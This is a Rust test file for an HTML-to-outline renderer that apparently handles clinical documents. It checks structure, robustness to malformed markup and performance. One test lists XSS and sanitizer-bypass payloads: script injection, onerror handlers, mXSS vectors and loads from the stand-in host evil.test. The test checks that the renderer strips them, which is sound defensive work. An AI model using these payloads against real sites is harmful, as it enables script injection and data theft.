//! What is shown of good documents, of bad ones, and of ones that mean harm.

use super::{blocks, outline};
use proptest::prelude::*;
use std::time::{Duration, Instant};

fn shown(markup: &str) -> String {
    outline(&blocks(markup, false).unwrap_or_default())
}

#[test]
fn headings_paragraphs_lists_and_tables_come_as_what_they_are() {
    let markup = "<html><head><title>x</title><style>p{color:red}</style></head><body>
        <h1>Discharge  summary</h1><p>Stable,<br>no <b>chest <i>pain</i></b>.</p>
        <ul><li>one<ol start=3><li>deep</ol><li>two</ul>
        <table><caption>Labs</caption><tr><th>A1c<th colspan=2>Date<tr><td>8.1 %<td><p>March</p><td></table>
        <blockquote>quoted</blockquote><hr><pre>a\n  b</pre></body></html>";
    let expected = "h1 Discharge summary
p Stable,⏎no *chest **_pain_*.
list
 item
  p one
  list 3
   item
    p deep
 item
  p two
table Labs
 row
  head
   p A1c
  head ×2
   p Date
 row
  cell
   p 8.1 %
  cell
   p March
  cell
indented
 p quoted
rule
pre a⏎  b";
    assert_eq!(shown(markup), expected);
}

#[test]
fn what_changes_the_meaning_of_words_is_kept() {
    assert_eq!(shown("<p>10<sup>9</sup>/L H<sub>2</sub>O"), "p 10^9^/L H~2~O");
    assert_eq!(
        shown("<p>Admitted <b>2026</b>,\n14.2 &times; 10 <i>x</i> y</p>"),
        "p Admitted *2026*, 14.2 × 10 _x_ y"
    );
    let struck = "p -Penicillin-";
    assert_eq!(shown("<p><s>Penicillin</s>"), struck);
    assert_eq!(shown("<p style='text-decoration: line-through'>Penicillin</p>"), struck);
    assert_eq!(shown("<p>A &lt;b&gt; &#233;&nbsp;&micro;g"), "p A <b> é\u{a0}µg");
    assert_eq!(
        shown("<input type=checkbox checked> Smoker<br><input type=checkbox> Diabetic"),
        "p ☑ Smoker⏎☐ Diabetic"
    );
    assert_eq!(shown("Smoker: <select><option>never<option selected>former</select>"), "p Smoker: former");
    assert_eq!(
        shown("<p>see <img src=x alt='ECG strip'> and <img src=y>"),
        "p see _[picture: ECG strip]_ and _[picture not shown]_"
    );
}

#[test]
fn tables_that_only_arrange_are_no_tables() {
    let letter = "<table><tr><td><table><tr><td>A<td>B</table><tr><td>end</table>";
    assert_eq!(shown(letter), "table\n row\n  cell\n   p A\n  cell\n   p B\np end");
}

#[test]
fn a_narrative_in_xml_is_read_as_xml() {
    let narrative = "<div xmlns=\"http://www.w3.org/1999/xhtml\"><script/><p>A<br/>B</p><![CDATA[x < y]]><a name=\"t\"/>end</div>";
    assert_eq!(outline(&blocks(narrative, true).unwrap()), "p A⏎B\np x < yend");
}

#[test]
fn nothing_that_acts_or_loads_leaves_a_trace() {
    for attack in [
        "<script>evil()</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<script>a<!--<script>evil()</script>--></script>",
        "<style>@import url(//evil.test/x.css)</style>",
        "<style><style /><img src=x onerror=evil()></style>",
        "<iframe srcdoc='<script>evil()</script>' src=//evil.test>evil()</iframe>",
        "<noframes><p title='</noframes><img src=x onerror=evil()>'></noframes>",
        "<title><a href='</title><img src=x onerror=evil()>'></title>",
        "<img src=//evil.test/p.png alt=''>",
        "<svg onload=evil() viewBox='evil'></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=evil()&gt;'></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()></style></mglyph></form>",
        "<a href='javascript:evil()'></a><a href=https://evil.test></a>",
        "<link rel=stylesheet href=//evil.test><base href=//evil.test/><meta http-equiv=refresh content='0;//evil.test'>",
        "<object data=//evil.test></object><embed src=//evil.test><video src=//evil.test></video>",
        "<p style='background:url(//evil.test)' onclick=evil()></p>",
        "<input type=hidden value=evil><input type=image src=//evil.test>",
        "<!-- evil --><!--><script>evil()</script>-->",
        "<svg><style><a id='</style><img src=1 onerror=evil()>'></style></svg>",
    ] {
        let shown = shown(&format!("<p>before</p>{attack}<p>after</p>"));
        for trace in ["evil", "onerror", "onload", "script", "srcdoc", "http", "url("] {
            assert!(!shown.contains(trace), "{attack}: {shown}");
        }
        assert!(shown.starts_with("p before") && shown.ends_with("p after"), "{attack}: {shown}");
    }
}

#[test]
fn badly_nested_and_unfinished_markup_keeps_every_word_in_order() {
    for (markup, expected) in [
        ("<ul>loose<li>a</ul></ul></td>end", "list\n item\n  p loose\n item\n  p a\np end"),
        (
            "<table>loose<tr><td>a<td>b</table>",
            "table\n row\n  cell\n   p loose\n row\n  cell\n   p a\n  cell\n   p b",
        ),
        ("<b>a<p>b</b>c", "p *a*\np *b*c"),
        ("<table><tr><td>a</ul></blockquote><td>b", "table\n row\n  cell\n   p a\n  cell\n   p b"),
        ("<li>a<li>b", "list\n item\n  p a\n item\n  p b"),
        ("<dl><dt>Term<dd>said<dt>Next</dl>x", "p *Term*\nindented\n p said\np *Next*\np x"),
        ("<p>a<p <b>b", "p a\np b"),
        ("<h2>a<div>b</div>c", "h2 a\np b\np c"),
    ] {
        assert_eq!(shown(markup), expected, "{markup}");
    }
}

/// Seconds are many for what takes parts of one: this runs unoptimised, beside others.
fn soon(what: &str, markup: &str) -> String {
    let start = Instant::now();
    let shown = shown(markup);
    assert!(start.elapsed() < Duration::from_secs(30), "{what} took {:?}", start.elapsed());
    shown
}

#[test]
fn a_hundred_thousand_levels_and_five_megabytes_are_read_in_bounded_time() {
    for name in [
        "div",
        "b",
        "ul><li",
        "table><tr><td",
        "blockquote",
        "span style='font-weight:bold'",
        "svg",
        "dl><dd",
        "p",
    ] {
        let shown = soon(name, &format!("{}deep<p>end", format!("<{name}>").repeat(100_000)));
        assert!(shown.contains("deep") && shown.contains("end"), "{name}");
    }
    let closing = format!("{}{}end", "<b><i>".repeat(100_000), "</i></ul></table></u>".repeat(100_000));
    assert!(soon("closing", &closing).contains("end"));
    for piece in ["<p>word ", "<table><tr><td>x</table>", "<!--"] {
        let shown = soon(piece, &format!("<i>start {} end", piece.repeat(5_000_000 / piece.len())));
        assert!(shown.contains("start"), "{piece}");
    }
}

#[test]
fn a_document_with_very_much_structure_keeps_all_its_words() {
    let markup = "<table><tr><td><p>word".repeat(30_000);
    let shown = shown(&markup);
    assert_eq!(shown.matches("word").count(), 30_000);
    assert!(shown.contains("\nrest "));
}

proptest! {
    #[test]
    fn every_word_outside_of_markup_is_shown_once(
        tags in proptest::collection::vec("</?(p|b|li|ul|ol|table|tr|td|th|caption|h2|div|dd|dt|br|blockquote|pre|span|svg|s)( style='x')?/?>", 0..60),
    ) {
        let mut markup = "<i>".to_owned();
        for (n, tag) in tags.iter().enumerate() {
            markup.push_str(&format!("{tag}w{n}w"));
        }
        let shown = shown(&markup);
        for n in 0..tags.len() {
            prop_assert_eq!(shown.matches(&format!("w{n}w")).count(), 1, "{} in {}", n, shown);
        }
    }
}
